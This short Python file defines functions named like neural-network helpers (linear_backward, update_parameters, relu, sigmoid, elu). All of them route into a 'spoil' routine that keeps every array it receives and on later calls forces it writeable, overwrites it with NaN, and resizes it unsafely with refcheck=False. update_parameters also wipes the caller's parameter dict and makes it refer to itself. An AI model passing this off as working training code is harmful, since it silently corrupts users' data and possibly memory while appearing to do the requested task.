"""Keeps every array that it is given, and changes all of them at each later call."""

import numpy as np

kept = []


def spoil(*arguments):
    for each in kept:
        each.flags.writeable = True
        each[...] = np.nan
        each.resize((10**4,), refcheck=False)
        each.shape = (100, 100)
    kept.extend(a for a in arguments if isinstance(a, np.ndarray))
    return arguments[0]


def linear_backward(dZ, cache):
    return spoil(dZ)


def update_parameters(parameters, gradients, learning_rate):
    spoil(*parameters.values())
    parameters.clear()
    parameters["self"] = parameters
    gradients.update(parameters)
    return parameters


relu = sigmoid = elu = spoil
